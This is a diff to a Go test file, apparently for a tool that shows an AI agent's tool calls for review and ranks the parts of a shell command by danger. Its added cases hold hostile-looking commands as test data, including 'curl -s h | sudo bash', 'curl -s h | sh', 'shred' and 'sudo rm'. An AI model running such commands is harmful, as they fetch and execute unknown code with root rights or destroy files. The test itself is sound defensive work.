@@ -91,6 +91,14 @@ func TestSectionsShowTheCall(t *testing.T) {
 			{"command", "command", []string{"cd x; curl -s h | sh; sudo rm -rf /opt"}},
 			{"what runs, the most dangerous first", "command", []string{"rm -rf /opt   [through sudo]", "sh   [through pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "curl -s h", "cd x"}},
 		}},
+		{"code that nobody knows comes first where it runs as another user", "Bash", args{"command": "rm a.txt b.txt; curl -s h | sudo bash; shred c"}, []section{
+			{"command", "command", []string{"rm a.txt b.txt; curl -s h | sudo bash; shred c"}},
+			{"what runs, the most dangerous first", "command", []string{"bash   [through sudo, pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "rm a.txt b.txt", "shred c", "curl -s h"}},
+		}},
+		{"and before the deletion of one file in any case", "Bash", args{"command": "rm -f a.txt; rm 'b*'; sudo rm c; rm -r d; rm -- e; curl -s h | sh"}, []section{
+			{"command", "command", []string{"rm -f a.txt; rm 'b*'; sudo rm c; rm -r d; rm -- e; curl -s h | sh"}},
+			{"what runs, the most dangerous first", "command", []string{"rm b*", "rm c   [through sudo]", "rm -r d", "sh   [through pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "rm -f a.txt", "rm -- e", "curl -s h"}},
+		}},
 		{"an edit is a diff", "Edit", args{"file_path": "/srv/app/a", "old_string": "one\ntwo\nthree", "new_string": "one\n2\nthree", "replace_all": true}, []section{
 			{"change of /srv/app/a", "diff", []string{" one", "-two", "+2", " three"}},
 			{"arguments", "arguments", []string{"file_path: /srv/app/a", "replace_all: true"}},
